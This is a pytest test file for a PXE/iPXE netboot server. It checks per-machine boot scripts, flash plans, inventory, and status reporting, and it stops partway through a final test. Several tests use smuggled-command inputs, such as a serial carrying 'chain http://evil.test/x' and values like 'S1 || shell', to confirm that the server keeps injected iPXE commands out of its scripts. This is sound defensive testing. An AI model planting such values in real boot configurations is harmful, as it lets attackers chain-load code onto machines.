"""What machines ask and report, over HTTP (CONTRACT 3.3 to 3.6 and 4, SPEC 16)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bty_app.config import Tuning
from bty_app.domain.mac import Mac
from bty_app.netboot import ipxe
from bty_app.store import catalog
from tests import serving
from tests.other_host import answer, other_host
from tests.serving import HOST, IP, KERNEL, LIVE, MAC, REF, Site

BASE = f"http://{HOST}"
NAME = f"bty-netboot-pc-x86_64-v{LIVE}"
ARGUMENTS = (  # CONTRACT 4.2, in its order
    f"boot=live fetch=${{bty-base}}/boot/{NAME}.squashfs components console=tty0"
    " console=ttyS1,115200 console=ttyS0,115200 earlyprintk=ttyS0,115200 plymouth.enable=0"
    " modprobe.blacklist=nouveau,rndis_host nouveau.modeset=0 systemd.gpt_auto=0"
    f" bty.server=${{bty-base}} bty.mac={MAC}"
)
LIVE_ENV = [
    f"set bty-base {BASE}",
    f"kernel ${{bty-base}}/boot/{NAME}.vmlinuz?mac={MAC} {ARGUMENTS}",
    f"initrd ${{bty-base}}/boot/{NAME}.initrd?mac={MAC}",
    "boot",
]
GUARDED = [
    LIVE_ENV[0],
    *(f"{line} || goto again" for line in LIVE_ENV[1:]),
    ":again",
    "sleep 10",
    f"chain --replace {BASE}/pxe/52-54-00-12-34-56 || goto again",
]
FLASH: dict[str, object] = {
    "bty_image_ref": REF,
    "image_name": "debian",
    "target_disk_serial": "S1",
}
FLASH_PLAN = {
    "mode": "flash",
    "image": "http://images.test/debian.img.zst",
    "target_disk_serial": "S1",
    "name": "debian",
    "disk_image_sha": "b" * 64,
    "format": "img.zst",
    "sources": [{"from": "origin", "url": "http://images.test/debian.img.zst"}],
}
INTERACTIVE = {"mode": "interactive", "catalog": f"{BASE}/catalog.toml"}
FLASH_MODES = ("bty-flash-once", "bty-flash-always")
ALLOWED = ("#!ipxe", "echo", "set", "kernel", "initrd", "boot", "sleep", "sanboot", "exit", "chain")

Setup = Callable[[Site], object]


def disk(drive: str = "0x80", pause: int = 1) -> list[str]:
    return [f"sleep {pause}", f"sanboot --no-describe --drive {drive} || exit 1"]


def wait(seconds: int) -> list[str]:
    return [
        f"echo bty: see {BASE}/ui/machines/{MAC}",
        ":again",
        f"sleep {seconds}",
        f"chain --replace {BASE}/pxe/52-54-00-12-34-56 || goto again",
    ]


def commands(script: str) -> list[str]:
    """A script without its first two lines, and without its first echo, which is for people."""
    lines = script.split("\n")
    assert lines[:2] == ["#!ipxe", "set bty-answered yes"]
    assert lines[2].startswith(f"echo bty: {MAC}: ")
    assert lines[-1] == ""
    if any(line.startswith("kernel ") for line in lines):  # of another version than the server
        assert lines.pop(3).startswith(f"echo bty: machines boot the live environment {LIVE}, ")
    return lines[3:-1]


def saved(mode: str, **more: object) -> Setup:
    fields = {"boot_mode": mode, "bty_image_ref": REF, "target_disk_serial": "S1"} | more
    return lambda site: site.save(**fields)


def in_cycle(mode: str, *acts: str) -> Setup:
    def setup(site: Site) -> None:
        site.save(boot_mode=mode, bty_image_ref=REF, target_disk_serial="S1", sanboot_drive="0x81")
        for act in acts:
            match act:
                case "boots":
                    site.boots()
                case "plan":
                    site.plan()
                case "done":
                    site.done()
                case "inventory":
                    site.inventory(disks=[])
                case "failed":
                    site.status("failed", reason="no such disk")
                case _:
                    site.clock.forward(float(act))

    return setup


def five(*acts: str) -> tuple[str, ...]:
    return (*acts, "1000") * 5


FlashRow = tuple[str, Callable[[str], Setup], list[str], dict[str, object], str | None, str]


def flash_rows(mode: str) -> list[FlashRow]:
    """Name, set-up for a mode, script, details, kind where it is not the mode, phase after."""
    return [
        (
            f"{mode} without ref",
            lambda mode: saved(mode, bty_image_ref=None, sanboot_drive="0x81"),
            disk("0x80", 5),
            {"offer": "unknown"},
            "unknown",
            "idle",
        ),
        (
            f"{mode} with orphan ref",
            lambda mode: saved(mode, bty_image_ref="c" * 64),
            ["sleep 1", "exit 1"],
            {"offer": "exit-fallback", "bty_image_ref": "c" * 64, "reason": "orphan_ref"},
            "exit-fallback",
            "idle",
        ),
        (
            f"{mode} without serial",
            lambda mode: saved(mode, target_disk_serial=None),
            ["sleep 1", "exit 1"],
            {"offer": "exit-fallback", "bty_image_ref": REF, "reason": "no_target_disk"},
            "exit-fallback",
            "idle",
        ),
        (f"{mode} armed", saved, LIVE_ENV, {"offer": mode} | FLASH, None, "idle"),
        (
            f"{mode} fetched",
            lambda mode: in_cycle(mode, "boots"),
            LIVE_ENV,
            {"offer": mode} | FLASH | {"retry_after_armed_no_done": True},
            None,
            "booted",
        ),
        (
            f"{mode} ordered",
            lambda mode: in_cycle(mode, "boots", "plan"),
            GUARDED,
            {"offer": mode} | FLASH | {"retry_after_armed_no_done": True},
            None,
            "booted",
        ),
        (
            f"{mode} failed once",
            lambda mode: in_cycle(mode, "boots", "plan", "failed"),
            GUARDED,
            {"offer": mode} | FLASH | {"retry_after_armed_no_done": True},
            None,
            "failed",
        ),
        (
            f"{mode} failed twice",
            lambda mode: in_cycle(mode, *("boots", "plan", "failed") * 2, "10"),
            wait(51),
            {"offer": "wait", "seconds": 51, "reason": "pause"},
            "wait",
            "failed",
        ),
        (
            f"{mode} failed five times",
            lambda mode: in_cycle(mode, *five("boots", "plan", "failed")),
            wait(60),
            {"offer": "wait", "seconds": 60, "reason": "held"},
            "wait",
            "held",
        ),
        (
            f"{mode} done",
            lambda mode: in_cycle(mode, "boots", "plan", "done"),
            disk("0x81"),
            {"offer": "ipxe-exit", "sanboot_drive": "0x81", "ipxe_exit_after_flash": True},
            f"{mode}-ipxe-exit",
            "released" if mode == "bty-flash-always" else "done",
        ),
    ]


def rows() -> list[Any]:
    """CONTRACT 4.7 as SPEC 16 changes it: set-up, script, the event's details, phase after."""
    by_mode: list[Any] = [
        pytest.param(
            saved("ipxe-exit"),
            disk(),
            {"offer": "ipxe-exit", "sanboot_drive": "0x80", "offer_kind": "ipxe-exit"},
            "idle",
            id="ipxe-exit",
        ),
        pytest.param(
            in_cycle("ipxe-exit"),
            disk("0x81"),
            {"offer": "ipxe-exit", "sanboot_drive": "0x81", "offer_kind": "ipxe-exit"},
            "idle",
            id="ipxe-exit, another drive",
        ),
        pytest.param(
            saved("bty-tui"),
            LIVE_ENV,
            {"offer": "bty-tui", "offer_kind": "bty-tui"},
            "idle",
            id="bty-tui",
        ),
    ]
    inventory: list[Any] = [
        pytest.param(in_cycle("bty-inventory", *acts), script, details, phase, id=f"inv {acts}")
        for acts, script, details, phase in [
            ((), LIVE_ENV, {"offer": "bty-inventory", "offer_kind": "bty-inventory"}, "idle"),
            (
                ("boots",),
                LIVE_ENV,
                {
                    "offer": "bty-inventory",
                    "retry_after_armed_no_post": True,
                    "offer_kind": "bty-inventory",
                },
                "booted",
            ),
            (
                ("boots", "inventory"),
                disk("0x81"),
                {
                    "offer": "ipxe-exit",
                    "sanboot_drive": "0x81",
                    "after_inventory": True,
                    "offer_kind": "bty-inventory-ipxe-exit",
                },
                "released",
            ),
            (
                five("boots"),
                disk("0x81"),
                {
                    "offer": "ipxe-exit",
                    "sanboot_drive": "0x81",
                    "reason": "given-up",
                    "offer_kind": "bty-inventory-ipxe-exit",
                },
                "held",
            ),
        ]
    ]
    flash = [
        pytest.param(setup(mode), script, details | {"offer_kind": kind or mode}, phase, id=name)
        for mode in FLASH_MODES
        for name, setup, script, details, kind, phase in flash_rows(mode)
    ]
    return by_mode + inventory + flash


@pytest.mark.parametrize(("setup", "script", "details", "phase"), rows())
def test_each_row_of_the_table_has_its_script_its_event_and_its_phase(
    server: Site, setup: Setup, script: list[str], details: dict[str, object], phase: str
) -> None:
    setup(server)

    answer = server.get(f"/pxe/{MAC}")

    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert commands(answer.text) == script
    offered = server.events("netboot.pxe.offered")[-1]
    assert offered["actor"] == "pxe-client"
    assert offered["source_ip"] == IP
    assert offered["details"] == {"boot_mode": server.machine().boot_mode.value, **details}  # type: ignore[union-attr]
    assert server.phase() == phase


def plans() -> list[Any]:
    """CONTRACT 3.4 as SPEC 16 changes it: set-up, body, kind in the event."""
    unresolved = (INTERACTIVE, "plan:interactive:flash-unresolved")
    flash: list[Any] = [(saved(mode), FLASH_PLAN, f"plan:flash:{mode}") for mode in FLASH_MODES]
    for mode in FLASH_MODES:
        exit_ = ({"mode": "exit"}, f"plan:exit:{mode}")
        held = INTERACTIVE | {"retry_after": 60}
        flash += [
            (in_cycle(mode, "boots", "plan"), FLASH_PLAN, f"plan:flash:{mode}"),
            (saved(mode, target_disk_serial=None), *unresolved),
            (saved(mode, bty_image_ref="c" * 64), *unresolved),
            (saved(mode, bty_image_ref=None), *exit_),
            (in_cycle(mode, "boots", "plan", "done"), *exit_),
            (in_cycle(mode, *five("boots", "plan", "failed")), held, "plan:interactive:held"),
        ]
    return [
        (saved("ipxe-exit"), {"mode": "exit"}, "plan:exit:ipxe-exit"),
        (saved("bty-tui"), INTERACTIVE, "plan:interactive:tui"),
        (saved("bty-inventory"), {"mode": "inventory"}, "plan:inventory"),
        (in_cycle("bty-inventory", "boots", "inventory"), {"mode": "inventory"}, "plan:inventory"),
        *flash,
    ]


@pytest.mark.parametrize(("setup", "body", "kind"), plans())
def test_each_situation_has_its_plan_byte_for_byte_and_its_event(
    server: Site, setup: Setup, body: dict[str, object], kind: str
) -> None:
    setup(server)

    answer = server.get(f"/pxe/{MAC}/plan")

    assert answer.headers["content-type"] == "application/json"
    assert answer.text == json.dumps(body, separators=(",", ":"))
    planned = server.events("netboot.pxe.plan")[-1]
    assert planned["details"]["plan"] == body
    assert planned["details"]["offer_kind"] == kind
    assert planned["details"]["boot_mode"] == server.machine().boot_mode.value  # type: ignore[union-attr]


def test_a_plan_leaves_out_what_is_not_known_of_the_image(server: Site) -> None:
    def change(tx: Any) -> None:
        tx.run(
            "UPDATE catalog_entries SET disk_image_sha = NULL, format = NULL,"
            " resolved_src = 'http://mirror.test/x'"
        )

    server.database.write(change)
    server.bind("bty-flash-once")

    assert list(server.plan().items()) == [
        ("mode", "flash"),
        ("image", "http://mirror.test/x"),
        ("target_disk_serial", "S1"),
        ("name", "debian"),
        ("sources", [{"from": "origin", "url": "http://mirror.test/x"}]),
    ]


def test_a_registry_image_is_named_to_the_client_as_it_stands(server: Site) -> None:
    server.database.write(
        lambda tx: tx.run(
            "UPDATE catalog_entries SET src = 'oras://r.test/a/b:1', resolved_src = 'http://x/'"
        )
    )
    server.bind("bty-flash-once")

    assert server.plan()["image"] == "oras://r.test/a/b:1"


def test_a_live_environment_that_is_gone_is_said_and_armed_by_nothing(server: Site) -> None:
    server.bind("bty-flash-once")
    (server.state_dir / "boot" / KERNEL).unlink()

    script = server.contact()

    told = f"echo bty: {MAC}: netboot.live_version asks for the live environment {LIVE}, boot/ has"
    assert told in script
    assert commands(script) == ["sleep 10", "exit 1"]
    assert server.phase() == "idle"
    server.save(boot_mode="ipxe-exit")
    assert "live environment" not in server.contact()


def test_a_preview_of_a_plan_asks_no_other_host(server: Site) -> None:
    with other_host() as host:
        host.routes["/SUMS"] = answer(b"c" * 64)
        sha_url = host.url("/SUMS")
        server.database.write(lambda tx: tx.run("UPDATE catalog_entries SET sha_url = ?", sha_url))
        server.bind("bty-flash-once")

        shown = server.get(f"/pxe/{MAC}/plan?preview=1").json["disk_image_sha"]

        assert (shown, host.heads) == ("b" * 64, [])
        assert server.plan()["disk_image_sha"] == "c" * 64
        assert len(host.heads) == 1


def test_an_image_without_a_name_is_no_image(server: Site) -> None:
    server.database.write(lambda tx: tx.run("UPDATE catalog_entries SET name = ''"))
    server.bind("bty-flash-once")

    assert server.plan()["mode"] == "interactive"
    assert commands(server.contact()) == ["sleep 1", "exit 1"]


# -- discovery and MACs -----------------------------------------------------------------------


@pytest.mark.parametrize("path", ["", "/plan"])
def test_an_unknown_machine_is_discovered_once(server: Site, path: str) -> None:
    server.get(f"/pxe/52-54-00-12-34-56{path}")
    server.clock.forward(5)
    server.get(f"/pxe/{MAC.upper()}{path}", remote_addr="192.0.2.8")

    found = server.operate("GET", f"/machines/{MAC}").json
    assert found == {
        "mac": MAC,
        "bty_image_ref": None,
        "labels": [],
        "discovered_at": "2026-11-22T20:00:00.000000Z",
        "last_seen_at": "2026-11-22T20:00:05.000000Z",
        "last_seen_ip": "192.0.2.8",
        "boot_mode": "bty-inventory",
        "sanboot_drive": None,
        "last_flashed_at": None,
        "known_disks": None,
        "known_disks_at": None,
        "target_disk_serial": None,
        "created_at": "2026-11-22T20:00:00.000000Z",
        "updated_at": "2026-11-22T20:00:05.000000Z",
    }
    (discovered,) = server.events("machine.discovered")
    assert (discovered["actor"], discovered["source_ip"]) == ("pxe-client", IP)
    assert discovered["details"] == {
        "bty_image_ref": None,
        "boot_mode": "bty-inventory",
        "sanboot_drive": None,
        "labels": [],
        "target_disk_serial": None,
    }


def test_a_machine_that_was_created_by_hand_is_discovered_when_it_asks(server: Site) -> None:
    server.save(boot_mode="ipxe-exit")

    server.contact()

    machine = server.machine()
    assert machine is not None
    assert machine.discovered_at == "2026-11-22T20:00:00.000000+00:00"
    assert "machine.discovered" not in server.kinds()


@pytest.mark.parametrize("mac", ["zz", "52:54:00:12:34", "525400123456", "52:54:00:12:34:5g"])
@pytest.mark.parametrize("path", ["/pxe/{}", "/pxe/{}/plan"])
def test_what_is_no_mac_is_refused_in_the_contracts_words(
    server: Site, path: str, mac: str
) -> None:
    answer = server.get(path.format(mac))

    assert answer.status_code == 400
    assert answer.json == {"detail": f"invalid MAC: '{mac}'"}


@pytest.mark.parametrize("mac", ["00:00:00:00:00:00", "ff-ff-ff-ff-ff-ff", "52:54-00:12-34:56"])
def test_any_six_pairs_are_a_machine(server: Site, mac: str) -> None:
    assert server.contact(mac).startswith("#!ipxe\n")


def test_the_bootstrap_chains_to_the_script_of_each_machine(server: Site) -> None:
    answer = server.get("/pxe-bootstrap.ipxe")

    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert answer.text == ipxe.bootstrap(BASE)
    assert f"\nchain {BASE}/pxe/${{mac:hexhyp}} ||" in answer.text


# -- both generations of the original's client --------------------------------------------------

DISKS = [
    {
        "path": "/dev/sda",
        "size": "1T",
        "type": "disk",
        "vendor": "ATA",
        "model": "Großer Datenträger",
        "serial": "S1",
        "tran": "sata",
        "removable": False,
        "readonly": False,
        "mountpoints": [],
    }
]


def speak(port: int, *request: object) -> tuple[int, dict[str, str], bytes]:
    """One exchange as the client has it: raw bytes, then the connection ends."""
    answer = serving.exchange(port, serving.request(*request))  # type: ignore[arg-type]
    head, _, body = answer.partition(b"\r\n\r\n")
    first, *lines = head.decode("ascii").split("\r\n")
    headers = {name.lower(): value for name, _, value in (line.partition(": ") for line in lines)}
    assert "date" in headers
    return int(first.split()[1]), headers, body


def boot_and_plan(server: Site, port: int, mac: str = MAC) -> None:
    """What both generations do up to the plan."""
    server.bind("bty-flash-once")
    assert speak(port, "GET", f"/pxe/{MAC.replace(':', '-')}")[0] == 200
    assert speak(port, "GET", f"/boot/{serving.KERNEL}?mac={mac}")[0] == 200
    assert speak(port, "GET", f"/boot/{serving.INITRD}?mac={mac}")[0] == 200
    hardware = json.dumps({"disks": DISKS, "lshw": {"id": "box", "x": 1.5}}).encode()
    json_type = "Content-Type: application/json"
    status, headers, body = speak(port, "POST", f"/pxe/{MAC}/inventory", hardware, json_type)
    assert (status, body) == (204, b"")
    status, headers, body = speak(port, "GET", f"/pxe/{MAC}/plan", None, "Accept: application/json")
    assert (status, headers["content-type"]) == (200, "application/json")
    assert body == json.dumps(FLASH_PLAN, separators=(",", ":")).encode()


STORY = [
    "machine.created",
    "netboot.pxe.offered",
    "netboot.flasher.armed",
    "machine.inventory",
    "netboot.pxe.plan",
    "machine.flashed",
    "netboot.pxe.offered",
]


def test_a_client_up_to_0_60_is_served_from_plan_to_done(server: Site, quick_dir: Path) -> None:
    with serving.listening(server.app, quick_dir) as port:
        boot_and_plan(server, port)
        for _ in range(2):
            status, headers, body = speak(port, "POST", f"/pxe/{MAC}/done", b"")
            assert (status, body) == (204, b"")
            assert "location" not in headers
        status, _, script = speak(port, "GET", f"/pxe/{MAC}")

    assert commands(script.decode()) == disk()
    assert server.kinds() == STORY
    assert json.loads(server.operate("GET", f"/machines/{MAC}/disks.json").text) == [
        {key: DISKS[0][key] for key in sorted(set(DISKS[0]) - {"type", "mountpoints"})}
    ]


@pytest.mark.parametrize("mac", [MAC, "52%3A54%3A00%3A12%3A34%3A56"])
def test_a_client_from_0_61_on_is_served_and_its_two_reports_are_one_flash(
    server: Site, quick_dir: Path, mac: str
) -> None:
    done = json.dumps({"status": "done"}).encode()
    json_type = "Content-Type: application/json"

    with serving.listening(server.app, quick_dir) as port:
        boot_and_plan(server, port, mac)
        for _ in range(2):
            assert speak(port, "POST", f"/pxe/{MAC}/status", done, json_type)[0] == 204
            server.clock.forward(0.01)
        _, _, script = speak(port, "GET", f"/pxe/{MAC}")

    assert commands(script.decode()) == disk()
    assert server.kinds() == STORY


@pytest.mark.parametrize(
    ("body", "kind"), [(b"", ""), (b"not json {", "text/plain"), (b"{}", "application/json")]
)
def test_done_takes_whatever_body_comes(server: Site, body: bytes, kind: str) -> None:
    server.bind("bty-flash-once")
    server.boots()

    answer = server.post(f"/pxe/{MAC}/done", body=body, headers={"Content-Type": kind})

    assert answer.status_code == 204
    assert server.phase() == "done"


def test_a_trailing_slash_is_served_and_never_redirected(server: Site) -> None:
    server.bind("bty-flash-once")
    server.boots()

    answers = [
        server.get(f"/pxe/{MAC}/"),
        server.get(f"/pxe/{MAC}/plan/"),
        server.post(f"/pxe/{MAC}/inventory/", json={}),
        server.post(f"/pxe/{MAC}/status/", json={"status": "done"}),
        server.post(f"/pxe/{MAC}/done/"),
    ]

    assert [answer.status_code for answer in answers] == [200, 200, 204, 204, 204]


# -- completion -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "said",
    [
        {},
        {"status": "ramboot.up"},
        {"status": None},
        {"status": "done", "bytes": 1},
        {"status": "failed", "reason": "x" * 501},
        {"status": "failed", "reason": 7},
        {"reason": "x"},
        ["done"],
        "done",
    ],
)
def test_a_status_that_is_not_one_is_refused_and_changes_nothing(
    server: Site, said: object
) -> None:
    server.bind("bty-flash-once")
    server.boots()
    before = server.machine()

    answer = server.post(f"/pxe/{MAC}/status", json=said)

    assert answer.status_code == 422
    assert isinstance(answer.json["detail"], str)
    assert server.machine() == before


def test_a_form_in_place_of_json_is_refused(server: Site) -> None:
    server.contact()

    answer = server.post(
        f"/pxe/{MAC}/status",
        body="status=done",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )

    assert answer.status_code == 422


def test_a_failure_has_its_event_and_its_reason_in_one_line(server: Site) -> None:
    server.bind("bty-flash-once")
    server.boots()

    assert server.status("failed", reason="dd:\nno space").status_code == 204
    assert server.status("failed").status_code == 204

    first, second = server.events("machine.flash_failed")
    assert first["details"] == {"reason": "dd: no space"}
    assert second["details"] is None
    assert server.phase() == "failed"


def test_a_completion_does_not_touch_the_mode(server: Site) -> None:
    server.bind("bty-flash-always")
    server.boots()
    server.plan()

    server.done()

    machine = server.machine()
    assert machine is not None
    assert machine.boot_mode == "bty-flash-always"
    assert machine.last_flashed_at == "2026-11-22T20:01:00.000000+00:00"


def test_a_completion_that_nobody_ordered_is_told_as_stale_and_ends_nothing(server: Site) -> None:
    server.bind("bty-flash-once")

    assert server.done().status_code == 204

    assert server.kinds()[-1] == "machine.report.stale"
    assert server.phase() == "idle"
    assert server.plan()["mode"] == "flash"


@pytest.mark.parametrize(
    ("report", "details"),
    [
        (Site.done, {"signal": "done"}),
        (lambda site: site.status("done"), {"signal": "done"}),
        (lambda site: site.status("failed", reason="x"), {"signal": "failed"}),
        (
            lambda site: site.inventory(disks=[{"path": "/dev/sda"}]),
            {"signal": "inventory", "disk_count": 1},
        ),
        (
            lambda site: site.post(f"/pxe/{MAC}/progress", json={"phase": "write"}),
            {"signal": "progress"},
        ),
    ],
)
def test_a_report_of_an_unknown_machine_is_an_orphan_and_makes_no_record(
    server: Site, report: Callable[[Site], serving.Result], details: dict[str, object]
) -> None:
    answer = report(server)

    assert answer.status_code == 404
    assert answer.json == {"detail": f"no machine record for {MAC}"}
    (orphan,) = server.events()
    assert (orphan["kind"], orphan["subject_id"]) == ("pxe.client.orphan", MAC)
    assert orphan["details"] == details
    assert server.machine() is None


# -- inventory --------------------------------------------------------------------------------


def test_an_inventory_is_stored_and_told(server: Site) -> None:
    server.contact()

    answer = server.inventory(disks=DISKS, lshw=[{"id": "box"}])

    assert (answer.status_code, answer.text) == (204, "")
    (told,) = server.events("machine.inventory")
    assert told["details"] == {"count": 1, "serials": ["S1"], "lshw": True}
    stored = server.operate("GET", f"/machines/{MAC}/disks.json").text
    assert list(json.loads(stored)[0]) == [
        "model", "path", "readonly", "removable", "serial", "size", "tran", "vendor",
    ]  # fmt: skip
    assert server.operate("GET", f"/machines/{MAC}/lshw.json").text == '[{"id":"box"}]'


def test_an_inventory_without_a_tree_keeps_the_one_that_is_there(server: Site) -> None:
    server.contact()
    server.inventory(lshw={"id": "first"})

    server.inventory(disks=DISKS)
    server.inventory(lshw=None)

    assert server.operate("GET", f"/machines/{MAC}/lshw.json").json == {"id": "first"}
    assert server.operate("GET", f"/machines/{MAC}/disks.json").json == []
    assert [event["details"]["lshw"] for event in server.events("machine.inventory")] == [
        True, False, False,
    ]  # fmt: skip


def test_a_tree_of_more_than_4_mib_is_left_out_and_the_one_before_is_kept(server: Site) -> None:
    server.contact()
    server.inventory(lshw={"id": "first"})

    answer = server.inventory(lshw={"id": "x" * (4 * 2**20)})

    assert answer.status_code == 204
    assert server.operate("GET", f"/machines/{MAC}/lshw.json").json == {"id": "first"}
    told = server.events("machine.inventory")[-1]["details"]["lshw"]
    assert told == "too large, the one before is kept"


def test_an_inventory_in_a_flash_mode_ends_no_cycle(server: Site) -> None:
    server.bind("bty-flash-once")
    server.boots()

    server.inventory(disks=DISKS)

    assert server.phase() == "booted"


def test_a_serial_with_a_line_end_is_refused_from_a_box_and_from_an_operator(server: Site) -> None:
    evil = "S1\nchain http://evil.test/x"
    server.contact()

    from_box = server.inventory(disks=[{"path": "/dev/sda", "serial": evil}])
    from_operator = server.save(boot_mode="bty-flash-once", target_disk_serial=evil)

    assert (from_box.status_code, from_operator.status_code) == (422, 422)
    machine = server.machine()
    assert machine is not None
    assert machine.known_disks_at is None
    assert machine.target_disk_serial is None


TEXT = st.text(max_size=40) | st.sampled_from(
    ["x\nchain http://evil/", "${net0/mac}", "S1 || shell", "\r\nshell", "a;b", "&& boot", "#"]
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    serial=TEXT,
    label=TEXT,
    drive=TEXT | st.just("0x9f"),
    name=TEXT,
    mode=st.sampled_from([*FLASH_MODES, "ipxe-exit", "bty-tui", "bty-inventory"]),
)
def test_nothing_that_anybody_gives_stands_in_a_script(
    server: Site, serial: str, label: str, drive: str, name: str, mode: str
) -> None:
    def rename(tx: Any) -> None:
        tx.run("UPDATE catalog_entries SET name = ?", name or "x")

    server.database.write(rename)
    server.save(boot_mode=mode, bty_image_ref=REF, target_disk_serial=serial)
    server.save(boot_mode=mode, bty_image_ref=REF, target_disk_serial="S1", labels=[label])
    server.save(boot_mode=mode, bty_image_ref=REF, target_disk_serial="S1", sanboot_drive=drive)
    server.inventory(disks=[{"path": name, "serial": serial, "model": label}])

    script = server.contact()

    known = [LIVE_ENV, GUARDED, disk(), disk("0x9f"), ["sleep 1", "exit 1"], disk("0x80", 5)]
    lines = script.rstrip("\n").split("\n")
    assert commands(script) in known
    assert all(line.split(" ")[0] in ALLOWED or line == ":again" for line in lines)
    assert script.isascii()


# -- the facts of PITFALLS --------------------------------------------------------------------


@pytest.mark.parametrize("crash", ["silent", "reported"])
def test_a_flash_that_dies_in_the_second_cycle_is_not_booted(server: Site, crash: str) -> None:
    """P-7: a success of an older cycle is no success of this one."""
    server.bind("bty-flash-always")
    server.boots()
    server.plan()
    server.done()
    assert commands(server.contact()) == disk()
    server.clock.forward(3600)
    assert commands(server.boots()) == LIVE_ENV
    assert server.plan() == FLASH_PLAN

    if crash == "reported":
        server.status("failed", reason="power")
    first = commands(server.contact())
    server.clock.forward(3600)
    second = commands(server.contact())

    assert (first, second) == (GUARDED, GUARDED)
    assert server.machine().disk_suspect  # type: ignore[union-attr]


def test_an_inventory_that_dies_in_the_second_cycle_does_not_count_the_first(server: Site) -> None:
    """P-7, for `known_disks_at`."""
    server.boots()
    server.inventory(disks=DISKS)
    assert commands(server.contact()) == disk()
    server.clock.forward(3600)
    server.boots()

    assert commands(server.contact()) == LIVE_ENV


def test_the_plan_of_a_finished_flash_once_is_to_exit(server: Site) -> None:
    """P-8: whatever live environment starts with this MAC, however late."""
    server.bind("bty-flash-once")
    server.boots()
    server.plan()
    server.done()

    for seconds in (0, 3600, 86400 * 365):
        server.clock.forward(seconds)
        assert server.plan() == {"mode": "exit"}
        assert commands(server.contact()) == disk()


def test_saving_a_finished_machine_unchanged_flashes_it_again(server: Site) -> None:
    """P-9."""
    server.bind("bty-flash-once")
    server.boots()
    server.plan()
    server.done()

    server.bind("bty-flash-once")

    assert commands(server.contact()) == LIVE_ENV
    assert server.plan() == FLASH_PLAN
    assert server.machine().last_flashed_at is None  # type: ignore[union-attr]
    assert "its cycle starts anew" in server.events("machine.upserted")[-1]["summary"]


def test_saving_a_stuck_machine_unchanged_frees_it(server: Site) -> None:
    """P-9: held after five attempts, and armed again by one save."""
    in_cycle("bty-flash-once", *five("boots", "plan", "failed"))(server)
    assert commands(server.contact()) == wait(60)

    server.bind("bty-flash-once")

    assert commands(server.contact()) == GUARDED


def test_curl_and_a_lost_answer_do_not_use_up_the_boot_of_the_disk(server: Site) -> None:
    """P-10: the fresh disk was wiped after somebody else had asked first."""
    server.bind("bty-flash-always")
    server.boots()
    server.plan()
    server.done()

    scripts = [commands(server.contact()) for _ in range(3)]
    server.clock.forward(119)
    scripts.append(commands(server.contact()))

    assert scripts == [disk()] * 4
    assert server.plan() == {"mode": "exit"}
    server.clock.forward(2)
    assert commands(server.contact()) == LIVE_ENV


@pytest.mark.parametrize("value", ["1", "true", "yes", "YES"])
def test_a_preview_changes_nothing_at_all(server: Site, value: str) -> None:
    """P-10: an operator looks at what a box would get."""
    server.bind("bty-flash-always")
    server.boots()
    server.plan()
    server.done()
    before, told = server.machine(), server.events()
    server.clock.forward(10)

    script = server.get(f"/pxe/{MAC}?preview={value}")
    plan = server.get(f"/pxe/{MAC}/plan?preview={value}")
    unknown = server.get(f"/pxe/02:00:00:00:00:01?preview={value}")
    heads = [server.ask("HEAD", f"/pxe/{MAC}{path}") for path in ("", "/plan")]

    assert commands(script.text) == disk()
    assert plan.json == {"mode": "exit"}
    assert f"kernel ${{bty-base}}/boot/{NAME}.vmlinuz" in unknown.text
    assert [head.status_code for head in heads] == [200, 200]
    assert server.machine() == before
    assert server.machine(Mac("02:00:00:00:00:01")) is None
    assert server.events() == told


def test_a_preview_with_a_no_is_a_contact(server: Site) -> None:
    server.get(f"/pxe/{MAC}?preview=0")

    assert server.kinds() == ["machine.discovered", "netboot.pxe.offered"]


def test_a_machine_whose_disk_is_suspect_loops_in_ipxe_until_it_is_flashed(server: Site) -> None:
    server.bind("bty-flash-once")
    server.boots()
    server.plan()
    server.save(boot_mode="bty-flash-once", target_disk_serial="S1")  # unbound

    script = commands(server.contact())
    event = server.events("netboot.pxe.offered")[-1]["details"]

    assert script == wait(60)
    assert event["reason"] == "unproven-disk"
    assert server.plan() == INTERACTIVE | {"retry_after": 60}


def test_ipxe_exit_is_the_operators_word_that_the_disk_is_good(server: Site) -> None:
    server.bind("bty-flash-once")
    server.boots()
    server.plan()

    server.save(boot_mode="ipxe-exit")

    assert commands(server.contact()) == disk()
    assert not server.machine().disk_suspect  # type: ignore[union-attr]


def test_holding_a_machine_is_one_event_that_says_what_to_do(server: Site) -> None:
    in_cycle("bty-flash-once", *five("boots", "plan", "failed"))(server)

    server.contact()
    server.contact()

    (held,) = server.events("machine.attempts.failed")
    assert held["actor"] == "system"
    assert held["details"] == {"attempts": 5, "boot_mode": "bty-flash-once"}
    assert "until it is saved again" in held["summary"]


def test_an_answer_is_never_kept_by_a_cache_between(server: Site) -> None:
    for path in (f"/pxe/{MAC}", f"/pxe/{MAC}/plan"):
        assert server.get(path).headers["cache-control"] == "no-store"


def test_with_a_public_url_scripts_and_plans_carry_it_whatever_the_host_is(quick_dir: Path) -> None:
    with serving.site(quick_dir, public_url="https://bty.example.org/") as site:
        site.save(boot_mode="bty-tui")
        odd = {"Host": "a/x || shell ;"}

        script = site.get(f"/pxe/{MAC}", headers=odd).text
        plan = site.get(f"/pxe/{MAC}/plan", headers=odd).json
        first = site.get("/pxe-bootstrap.ipxe", headers=odd).text

    assert "set bty-base https://bty.example.org\n" in script
    assert plan["catalog"] == "https://bty.example.org/catalog.toml"
    assert "chain https://bty.example.org/pxe/${mac:hexhyp} ||" in first


# -- bounds -----------------------------------------------------------------------------------


def macs(count: int) -> list[str]:
    return [f"02:00:00:00:00:{number:02x}" for number in range(count)]


def counts(site: Site) -> tuple[int, int]:
    def read(tx: Any) -> tuple[int, int]:
        return (
            tx.value("SELECT count(*) FROM machines"),
            tx.value("SELECT count(*) FROM events WHERE kind NOT LIKE 'auth.%'"),
        )

    return site.database.read(read)


def test_one_network_discovers_so_many_machines_and_firmware_is_told_to_wait(
    quick_dir: Path,
) -> None:
    few = Tuning(discovery_burst=3, discovery_per_minute=1)
    with serving.site(quick_dir, tuning=few) as site:
